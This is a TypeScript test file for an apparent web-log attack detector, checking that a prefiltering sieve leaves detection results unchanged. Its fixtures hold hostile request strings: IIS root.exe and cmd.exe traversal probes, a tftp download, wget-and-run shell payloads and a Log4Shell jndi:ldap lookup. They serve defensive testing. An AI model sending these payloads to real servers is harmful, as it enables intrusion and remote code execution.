import { deepEqual, equal, ok } from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { type Instant, rules, type Signature, signatures } from '@redalert/core'
import fc from 'fast-check'
import type { Piece } from '../read/piece.ts'
import { addObserved, emptyTally } from '../tally.ts'
import { anyLog } from './any-log.ts'
import { anyPlacedLog } from './any-placed-log.ts'
import type { Match, Observed, Watch } from './observe.ts'
import { observePieces } from './observe-log.ts'
import { makeSieve, type Sieve } from './sieve.ts'

const watch: Watch = { context: {}, rules: rules(signatures) }

async function* pieces(content: Buffer, size: number): AsyncGenerator<Piece, void> {
  for (let at = 0; at < content.length; at += size) {
    const bytes = Buffer.from(content.subarray(at, at + size))
    yield { kind: 'bytes', bytes, at, consumed: at + bytes.length }
  }
}

/** All that a log shows, however it was told. */
async function shown(content: Buffer, size: number, watch: Watch, sieve?: Sieve) {
  const tally = emptyTally()
  const said: (Observed['unread'][number] | Match)[] = []
  const guessed: number[] = []
  for await (const piece of observePieces(pieces(content, size), watch, sieve)) {
    if (piece.kind !== 'observed') continue
    const { observed } = piece
    addObserved(tally, observed, { file: 'a.log', sensor: 'www' })
    said.push(...observed.unread, ...observed.matches.filter(({ answered }) => answered))
    if (observed.monthGuessed !== undefined) guessed.push(observed.monthGuessed)
  }
  const { counts, span, cells, hours, listens, lineCounts } = tally
  return {
    counts,
    span,
    // Who tells them sorts those of one piece.
    said: said.toSorted((one, other) => one.line - other.line),
    guessed: guessed[0],
    cells: [...cells].toSorted(([one], [other]) => (one < other ? -1 : 1)),
    hours: new Map(hours),
    listens: [...listens].toSorted(),
    lineCounts,
  }
}

function makeSure(watch: Watch): Sieve {
  const sieve = makeSieve(watch)
  ok(sieve, 'there is no sieve')
  return sieve
}

const sieve = makeSure(watch)

const repository = join(import.meta.dirname, '..', '..', '..', '..')
const real = [
  join(repository, 'fixtures', 'logs'),
  join(repository, '..', 'shared', 'data', 'logs'),
]

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map(name => join(folder, name))
    .filter(file => statSync(file).isFile())
}

for (const folder of real) {
  const skip = existsSync(folder) ? false : `${folder} is not here`
  test(`the sieve changes nothing in the logs of ${folder.slice(-11)}`, { skip }, async () => {
    const files = filesIn(folder)
    ok(files.length > 0)
    for (const file of files) {
      const content = readFileSync(file)
      const plain = await shown(content, 1 << 18, watch)
      deepEqual(await shown(content, 1 << 18, watch, sieve), plain, file)
      deepEqual(await shown(content, 5003, watch, sieve), plain, file)
    }
  })
}

function family(field: 'userAgent' | 'referer', literal: string): Signature {
  const marks = {
    header: { when: { [field]: { contains: literal } }, samples: { positive: [], negative: [] } },
    both: {
      when: { path: { contains: 'index' }, [field]: { contains: 'Mozilla' } },
      samples: { positive: [], negative: [] },
    },
  }
  return { ...signatures[0]!, id: 'header', marks }
}

const watches: readonly Watch[] = [
  watch,
  { ...watch, since: '2001-07-19T14:05:00Z' as Instant, until: '2001-07-19T14:08:30Z' as Instant },
  { context: {}, rules: rules([...signatures, family('userAgent', '() {')]) },
  { context: {}, rules: rules([family('referer', 'root.exe')]) },
]
const sieves = watches.map(makeSure)

for (const [kind, logs] of [
  ['any log', anyLog],
  ['a log in columns or JSON', anyPlacedLog],
] as const) {
  test(`the sieve changes nothing in ${kind}, however its bytes come`, async () => {
    let marked = 0
    await fc.assert(
      fc.asyncProperty(
        logs,
        fc.constantFrom(1, 7, 64, 1000, 1 << 20),
        fc.nat(watches.length - 1),
        async (log, size, which) => {
          const content = Buffer.from(log, 'latin1')
          const plain = await shown(content, 1 << 20, watches[which]!)
          marked += plain.counts.matched
          // Nothing of another log stands behind the last line and stops who reads too far.
          sieves[which]!.bytes.fill(0, sieve.start)
          deepEqual(await shown(content, size, watches[which]!, sieves[which]), plain)
        },
      ),
      { numRuns: 600 },
    )
    ok(marked > 200, `only ${marked} matches`)
  })
}

const knocks = [
  '/scripts/root.exe?/c+dir',
  '/scripts/r%6fot.exe?/c+dir',
  '/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNN',
  '/scripts/root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20cool.dll',
  '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
  '/shell?cd+/tmp;wget+http://10.0.0.5/a;sh+a',
  '/shell?cd+/tmp;wget+http://203.0.113.7/a;sh+a',
  '/shell?cd+/tmp;wget+http://192.168.1.1/a;sh+a',
  '/shell?cd+/tmp;wget+http://100.64.0.1/a;sh+a',
  '/index.html?x=$%7bjndi:ldap://192.0.2.1/a}',
  '/index.html',
]
const tails = [
  '"-" "-"',
  '"-" "wget http://192.0.2.9/x"',
  '"-" "Mozilla/4.0"',
  '"-" "Nmap Scripting Engine"',
  '"-" "w%67et http://x"',
]

const sources = [
  '203.0.113.7',
  '203.0.113.8',
  '203.0.113.9',
  '10.0.0.5',
  '192.168.1.1',
  '172.16.9.9',
  '192.0.2.7',
  '172.15.0.1',
  '100.64.0.1',
  '100.128.0.1',
]

/** Many requests of few clients, some in the same second, not quite in the order of time. */
const flood = fc
  .array(
    fc.tuple(
      fc.nat(sources.length - 1),
      fc.nat(4000),
      fc.nat(knocks.length - 1),
      fc.nat(tails.length - 1),
      fc.nat(3),
    ),
    { minLength: 50, maxLength: 400 },
  )
  .map(all =>
    all.map(([client, second, knock, tail, answer], index) => {
      const at = (index >> 1) * 9 + (second % 40)
      const stamp = `19/Jul/2001:1${6 + Math.floor(at / 3600)}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)} +0530`
      const status = answer === 0 ? '200 5' : '404 283'
      const source = sources[client]
      return `${source} - - [${stamp}] "GET ${knocks[knock]} HTTP/1.0" ${status} ${tails[tail]}\n`
    }),
  )
  .map(lines => lines.join(''))

function two(value: number): string {
  return String(value).padStart(2, '0')
}

test('equal requests are counted as they are read: their cells, identities and evidence', async () => {
  const raw: Watch = { ...watch, raw: true }
  await fc.assert(
    fc.asyncProperty(
      flood,
      fc.constantFrom(500, 1 << 20),
      fc.boolean(),
      async (log, size, isRaw) => {
        const content = Buffer.from(log)
        const how = isRaw ? raw : watch
        deepEqual(await shown(content, size, how, sieve), await shown(content, 1 << 20, how))
      },
    ),
    { numRuns: 60 },
  )
})

test('more clients than there is room for are counted as they are read', async () => {
  const lines = Array.from({ length: 20_000 }, (_, at) => {
    const client = `11.${at % 200}.${Math.floor(at / 200) % 100}.1`
    return `${client} - - [19/Jul/2001:16:08:${two(at % 60)} +0000] "GET /scripts/root.exe HTTP/1.0" 404 283 "-" "-"`
  })
  const content = Buffer.from([...lines, ...lines.slice(0, 9000)].join('\n'))
  deepEqual(await shown(content, 1 << 18, watch, sieve), await shown(content, 1 << 18, watch))
})

const visits = Array.from({ length: 5000 }, (_, at) => ({
  client: `203.0.113.${at % 256}`,
  day: '2001-07-19',
  clock: `16:${two(Math.floor(at / 100))}:${two(at % 60)}`,
  target: `/blog/${at % 50}/a%20b`,
  bytes: at,
}))
const ordinary = {
  'the common shape': visits.map(
    ({ client, clock, target, bytes }) =>
      `${client} - - [19/Jul/2001:${clock} +0200] "GET ${target} HTTP/1.1" 200 ${bytes} "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64)"`,
  ),
  columns: [
    '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Referer) sc-status sc-bytes',
    ...visits.map(
      ({ day, client, clock, target, bytes }) =>
        `${day} ${clock} 198.51.100.7 GET ${target} - ${client} Mozilla/5.0+(X11;+Linux+x86_64) https://www.example.org/ 200 ${bytes}`,
    ),
  ],
  JSON: visits.map(
    ({ day, client, clock, target, bytes }) =>
      `{"time":"${day}T${clock}.${bytes}+02:00","remote_addr":"${client}","request":"GET ${target} HTTP/1.1","status":200,"bytes":${bytes},"agent":"Mozilla/5.0 (X11; Linux x86_64)"}`,
  ),
}

for (const [shape, lines] of Object.entries(ordinary)) {
  test(`the sieve passes over nearly every line of an ordinary log of ${shape}`, async () => {
    let asked = 0
    const counting = makeSure(watch)
    const spy: Sieve = {
      ...counting,
      run: (from, to) => {
        const { ask } = spy.host
        counting.host = { ...spy.host, ask: (...at) => (asked++, ask(...at)) }
        return counting.run(from, to)
      },
    }
    const content = Buffer.from(lines.join('\n'))
    deepEqual(await shown(content, 1 << 18, watch, spy), await shown(content, 1 << 18, watch))
    ok(asked < 10, `${asked} lines were asked for`)
  })
}

test('a client that only another shape takes for one is none in columns', async () => {
  const named = 'dialup.example.net GET /x 2001-07-19 14:00:00'
  const lines = [
    '#Fields: c-ip cs-method cs-uri-stem date time cs-uri-query',
    ...Array.from({ length: 9 }, () => '192.0.2.7 GET /x 2001-07-19 14:00:00 -'),
    `${named} [19/Jul/2001:16:08:55]"GET`,
    `${named} -`,
    '',
  ]
  const content = Buffer.from(lines.join('\n'))
  const plain = await shown(content, 1 << 18, watch)
  equal(plain.counts.unread, 1)
  deepEqual(await shown(content, 1 << 18, watch, sieve), plain)
})

test('a line that is torn anywhere, with nothing behind it, is read as without the sieve', async () => {
  for (const [shape, lines] of Object.entries(ordinary)) {
    const [first = '', second = '', third = ''] = lines
    const last = shape === 'columns' ? third : second
    for (let length = 1; length <= last.length; length += shape === 'JSON' ? 3 : 2) {
      const content = Buffer.from([first, second, third, last.slice(0, length), ''].join('\n'))
      // No byte of an earlier log lies behind the torn line.
      sieve.bytes.fill(0, sieve.start)
      deepEqual(await shown(content, 1 << 18, watch, sieve), await shown(content, 1 << 18, watch))
    }
  }
})

test('lines of any length are cut where they are cut without the sieve', async () => {
  const head = '192.0.2.7 - - [19/Jul/2001:16:08:55 +0200] "GET /'
  for (const length of [65_000, 65_535, 65_536, 65_537, 65_538, 131_072, 800_000, 3_000_000]) {
    for (const ending of ['\n', '\r\n']) {
      const long = `${head.padEnd(length - 20, 'x')} HTTP/1.0" 404 12345`.slice(0, length)
      const content = Buffer.from([head, long, `${head} HTTP/1.0" 200 1`, long].join(ending))
      const plain = await shown(content, 1 << 18, watch)
      equal(plain.counts.lines, 4)
      for (const size of [1 << 18, 70_001])
        deepEqual(await shown(content, size, watch, sieve), plain, `${length}`)
    }
  }
})
